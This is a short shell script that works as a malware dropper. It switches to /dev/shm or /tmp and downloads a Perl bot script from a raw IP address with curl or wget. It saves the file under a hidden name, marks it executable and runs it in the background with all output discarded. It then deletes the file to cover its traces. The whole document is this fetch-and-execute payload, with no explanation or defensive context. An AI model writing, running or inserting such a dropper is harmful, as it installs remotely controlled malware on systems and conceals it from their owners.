#!/bin/sh
cd /dev/shm || cd /tmp
curl -fsSL -o .x http://198.51.100.23/bot.pl || wget -q -O .x http://198.51.100.23/bot.pl
chmod 755 .x
nohup perl .x >/dev/null 2>&1 &
rm -f .x
